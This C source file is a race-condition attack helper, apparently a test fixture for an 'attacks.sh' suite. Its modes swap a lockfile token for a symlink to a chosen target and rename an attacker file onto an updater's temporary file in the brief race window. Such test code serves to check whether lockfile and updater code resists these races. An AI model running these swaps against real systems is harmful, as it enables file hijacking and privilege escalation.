/* The attacker's side of the races in attacks.sh, fast enough to land in
 * the windows a shell loop would miss:
 *
 *   racer swap-token DIR KEEP TARGET READY TIMEOUT_MS
 *     Waits for a token in DIR other than KEEP (the victim's, just taken
 *     over), renames it away and puts a symbolic link to TARGET at its
 *     name. Prints the name and exits 0; exits 2 when none came in time.
 *   racer swap-temp WDIR PREFIX SOURCE READY TIMEOUT_MS
 *     Holds WDIR open (it follows the directory through renames of its
 *     parent), waits for an entry starting with PREFIX (the updater's
 *     temporary file) and renames SOURCE onto it. Exits 0 when it did,
 *     2 when nothing appeared in time.
 *   racer rusage OUT CMD [ARGS...]
 *     Runs CMD and writes "status SIGNAL EXIT maxrss_kb" to OUT.
 *
 * READY is created once the racer watches, so that the victim starts only
 * then (no sleep decides the order).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int signal_ready(const char* ready) {
  int fd = open(ready, O_WRONLY | O_CREAT | O_EXCL, 0644);
  if (fd < 0) {
    fprintf(stderr, "racer: cannot create %s: %s\n", ready, strerror(errno));
    return -1;
  }
  close(fd);
  return 0;
}

static int swap_token(const char* dir, const char* keep, const char* target, const char* ready,
                      long long timeout_ms) {
  DIR* d = opendir(dir);
  if (!d) {
    fprintf(stderr, "racer: cannot open %s: %s\n", dir, strerror(errno));
    return 1;
  }
  if (signal_ready(ready)) return 1;
  const long long end = now_ms() + timeout_ms;
  char from[4096], to[4096];
  while (now_ms() < end) {
    rewinddir(d);
    struct dirent* e;
    while ((e = readdir(d))) {
      if (strncmp(e->d_name, "lockfile.", 9) != 0 || strcmp(e->d_name, keep) == 0) continue;
      if (e->d_type == DT_LNK) continue;
      snprintf(from, sizeof from, "%s/%s", dir, e->d_name);
      snprintf(to, sizeof to, "%s/moved.%s", dir, e->d_name);
      if (rename(from, to) != 0) continue;
      if (symlink(target, from) != 0) {
        fprintf(stderr, "racer: cannot link %s: %s\n", from, strerror(errno));
        return 1;
      }
      printf("%s\n", e->d_name);
      return 0;
    }
  }
  return 2;
}

static int swap_temp(const char* wdir, const char* prefix, const char* source, const char* ready,
                     long long timeout_ms) {
  DIR* d = opendir(wdir);
  if (!d) {
    fprintf(stderr, "racer: cannot open %s: %s\n", wdir, strerror(errno));
    return 1;
  }
  if (signal_ready(ready)) return 1;
  const size_t n = strlen(prefix);
  const long long end = now_ms() + timeout_ms;
  while (now_ms() < end) {
    rewinddir(d);
    struct dirent* e;
    while ((e = readdir(d))) {
      if (strncmp(e->d_name, prefix, n) != 0) continue;
      if (renameat(AT_FDCWD, source, dirfd(d), e->d_name) == 0) {
        printf("%s\n", e->d_name);
        return 0;
      }
    }
  }
  return 2;
}

static int run_with_rusage(const char* out, char** argv) {
  pid_t pid = fork();
  if (pid < 0) return 1;
  if (pid == 0) {
    execvp(argv[0], argv);
    _exit(127);
  }
  int status = 0;
  struct rusage ru;
  while (wait4(pid, &status, 0, &ru) < 0)
    if (errno != EINTR) return 1;
  FILE* f = fopen(out, "w");
  if (!f) return 1;
  fprintf(f, "%d %d %ld\n", WIFSIGNALED(status) ? WTERMSIG(status) : 0,
          WIFEXITED(status) ? WEXITSTATUS(status) : -1, ru.ru_maxrss);
  fclose(f);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int main(int argc, char** argv) {
  if (argc == 7 && strcmp(argv[1], "swap-token") == 0)
    return swap_token(argv[2], argv[3], argv[4], argv[5], atoll(argv[6]));
  if (argc == 7 && strcmp(argv[1], "swap-temp") == 0)
    return swap_temp(argv[2], argv[3], argv[4], argv[5], atoll(argv[6]));
  if (argc >= 4 && strcmp(argv[1], "rusage") == 0) return run_with_rusage(argv[2], argv + 3);
  fprintf(stderr,
          "usage: racer swap-token DIR KEEP TARGET READY TIMEOUT_MS\n"
          "       racer swap-temp WDIR PREFIX SOURCE READY TIMEOUT_MS\n"
          "       racer rusage OUT CMD [ARGS...]\n");
  return 64;
}
